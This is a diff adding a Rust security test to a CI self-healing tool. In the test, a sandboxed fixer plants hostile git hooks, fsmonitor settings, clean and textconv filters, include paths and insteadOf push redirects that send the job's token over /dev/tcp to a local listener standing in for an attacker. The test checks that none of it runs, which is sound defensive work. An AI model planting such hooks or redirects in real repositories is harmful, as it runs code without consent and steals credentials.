@@ -566,3 +566,113 @@ fn a_lint_is_healed_by_clippys_own_fix() {
         "pub fn double(x: i32) -> i32 {\n    x * 2\n}\n"
     );
 }
+
+/// A listener that counts connections (an attacker's server): nothing a heal runs may reach it.
+struct Trap {
+    port: u16,
+    hits: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
+}
+
+impl Trap {
+    fn start() -> Trap {
+        use std::io::Read as _;
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let hits = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+        let h = std::sync::Arc::clone(&hits);
+        std::thread::spawn(move || {
+            for mut conn in listener.incoming().flatten() {
+                let _ = conn.set_read_timeout(Some(std::time::Duration::from_millis(500)));
+                let mut buf = [0u8; 512];
+                let n = conn.read(&mut buf).unwrap_or(0);
+                h.lock().unwrap().push(String::from_utf8_lossy(&buf[..n]).into_owned());
+            }
+        });
+        Trap { port, hits }
+    }
+}
+
+/// A fixer (sandboxed code) plants every trap git has for the heal's own `git add`, `diff`,
+/// `commit` and `push`: hooks, `core.hooksPath`, fsmonitor, clean filters and textconv drivers
+/// (through `.git/info/attributes` and the work tree's `.gitattributes`), an `insteadOf` that
+/// sends the push (and its token) to a listener of the attacker's, in the work tree's `.git`,
+/// in the heal's protected copy of it and in the heal job's home. None of it runs: the heal
+/// pushes its fix to the server, and the listener hears nothing.
+#[test]
+fn a_heals_git_runs_nothing_that_its_fixers_planted() {
+    let trap = Trap::start();
+    let data = tempfile::tempdir().unwrap();
+    let server = Server::start(data.path());
+    let server_url = server.url.trim_end_matches('/').to_owned();
+    let call = format!(
+        "#!/bin/bash\n{{ printf 'GET /%s HTTP/1.0\\r\\nX-Token: %s\\r\\n\\r\\n' \"$(basename \"$0\")\" \"$SALVE_TOKEN\"; }} > /dev/tcp/127.0.0.1/{}\n",
+        trap.port
+    );
+    let plant = format!(
+        r#"set -u
+evil="$PWD/.evil.sh"
+cat > "$evil" <<'EOS'
+{call}EOS
+chmod +x "$evil"
+plant() {{
+  g="$1"
+  [ -d "$g" ] || return 0
+  mkdir -p "$g/hooks" "$g/info" 2>/dev/null
+  for h in pre-commit post-commit commit-msg pre-push reference-transaction post-index-change post-checkout; do
+    cp "$evil" "$g/hooks/$h" 2>/dev/null && chmod +x "$g/hooks/$h"
+  done
+  printf '* filter=evil diff=evil\n' >> "$g/info/attributes" 2>/dev/null
+  git config --file "$g/config" core.fsmonitor "$evil" 2>/dev/null
+  git config --file "$g/config" core.hooksPath "$g/hooks" 2>/dev/null
+  git config --file "$g/config" filter.evil.clean "$evil" 2>/dev/null
+  git config --file "$g/config" filter.evil.required true 2>/dev/null
+  git config --file "$g/config" diff.evil.textconv "$evil" 2>/dev/null
+  git config --file "$g/config" url.http://127.0.0.1:{port}/.insteadOf "{server_url}/" 2>/dev/null
+  git config --file "$g/config" url.http://127.0.0.1:{port}/.pushInsteadOf "{server_url}/" 2>/dev/null
+  git config --file "$g/config" include.path "$PWD/.evil.gitconfig" 2>/dev/null
+  git config --file "$g/config" core.fsmonitor >/dev/null 2>&1 && planted="$planted+$2"
+}}
+planted=""
+printf '[core]\n\tfsmonitor = %s\n' "$evil" > .evil.gitconfig
+printf '* filter=evil diff=evil\n' > .gitattributes
+plant .git worktree
+for g in "$HOME"/../../protected/git "$(dirname "$PWD")"/.salve-heal-*/protected/git; do plant "$g" protected; done
+cp .evil.gitconfig "$(dirname "$PWD")/.gitconfig" 2>/dev/null && planted="$planted+jobhome"
+printf 'GET /planted%s HTTP/1.0\r\n\r\n' "$planted" > /dev/tcp/127.0.0.1/{port}
+"#,
+        port = trap.port
+    );
+    let _p = project(
+        &server,
+        "trapped",
+        &[
+            (".semaphore/semaphore.yml", &ci(&job("Lint", "", "sort -c list.txt"), SEED_WHEN)),
+            ("list.txt", "b\na\n"),
+            ("plant.sh", &plant),
+            (
+                "salve.toml",
+                "[[heal.fixer]]\nname = \"sort the list\"\nwhen_command = 'sort -c'\nrun = [\"bash plant.sh\", \"sort -o list.txt list.txt\", \"rm -f .evil.sh .evil.gitconfig .gitattributes\"]\n",
+            ),
+        ],
+    );
+    let list = server.wait("trapped", "the heal's pull request", |l| {
+        l.iter().any(|p| p["name"] == "PR" && p["state"] == "done")
+            || l.iter().any(|p| p["name"] == "Self-heal" && p["state"] == "done" && p["result"] != "passed")
+    });
+    let heal = list.iter().find(|p| p["name"] == "Self-heal").unwrap();
+    let log = heal_log(&server, heal);
+    let h = server.get("/api/v1/heals?project=trapped");
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    assert_eq!(h["heals"][0]["outcome"], "pushed", "{h:#}\n{log}\n{:?}", trap.hits.lock().unwrap());
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    // The fixer planted in the work tree's `.git` (its own to trash), but could not reach the
+    // heal's protected copy or the heal job's home; nothing it planted ran.
+    let hits = trap.hits.lock().unwrap().clone();
+    assert_eq!(hits.len(), 1, "planted code ran: {hits:?}\n{log}");
+    assert!(hits[0].starts_with("GET /planted+worktree HTTP"), "{hits:?}");
+    let branch = h["heals"][0]["report"]["heal_branch"].as_str().unwrap();
+    let repo = data.path().join("repos/trapped.git");
+    assert_eq!(bare(&repo, &["diff", "--name-only", "main", branch]).trim(), "list.txt");
+    assert_eq!(bare(&repo, &["show", &format!("{branch}:list.txt")]), "a\nb\n");
+    assert_eq!(bare(&repo, &["rev-parse", "main"]), bare(&repo, &["rev-parse", &format!("{branch}~1")]));
+}
